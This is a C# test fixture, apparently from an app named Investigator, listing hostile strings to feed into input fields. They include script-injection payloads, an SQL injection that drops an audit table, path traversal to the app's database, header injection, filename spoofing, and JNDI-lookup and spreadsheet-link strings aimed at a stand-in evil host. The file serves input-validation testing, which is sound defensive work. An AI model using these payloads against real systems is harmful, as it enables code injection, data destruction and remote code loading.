using System.Globalization;

namespace Investigator.App.Tests.Hostile;

/// <summary>What is typed into a field by who means no good, or by accident.</summary>
internal static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "", "   ", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE audit; --", "=HYPERLINK(\"http://evil.example\")",
        "\0", "a\0b",
        "a\r\nX-Injected: yes", "\u202Egpj.exe", "\uD800", "e\u0301\u0301\u0301", "\U0001F4A3", "../../investigator.db", "//evil.example", "/\\evil.example",
        "javascript:alert(1)", "{\"$type\":\"System.Object\"}", "${jndi:ldap://evil.example}", "%00%0d%0a", "-1", "99999999999999999999", "NaN",
        new string('a', 100_000),
    ];

    /// <summary>As a message can show it.</summary>
    public static string Name(string text) => string.Create(CultureInfo.InvariantCulture, $"'{text[..Math.Min(text.Length, 30)]}' ({text.Length} characters)");
}
